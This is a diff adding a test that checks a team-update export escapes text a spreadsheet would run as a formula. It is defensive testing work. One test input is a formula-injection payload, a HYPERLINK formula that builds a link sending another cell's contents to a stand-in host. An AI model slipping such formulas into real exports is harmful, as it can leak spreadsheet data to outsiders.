@@ -116,3 +116,16 @@ def test_export_on_the_command_line(tmp_path: Path) -> None:
     bad = run("--since", "last tuesday")
     assert bad.returncode == 2 and "--since" in bad.stderr and "Traceback" not in bad.stderr
     assert run("--format", "xlsx").returncode == 2
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(db: Database) -> None:
+    services = Services.build(db, SlackRenderer())
+    two_teams(services, "T1", DAY1)
+    for words in ('=HYPERLINK("https://x.test/?"&B2,"Open")', "-5 referrals", "+1 office"):
+        services.items.post(Actor("T1", "U_M1"), Draft(ItemKind.UPDATE, typed(words)), DAY1)
+    texts = [row["text"] for row in _rows(services)]
+    assert texts == [
+        '\'=HYPERLINK("https://x.test/?"&B2,"Open")',
+        "'-5 referrals",
+        "'+1 office",
+    ]
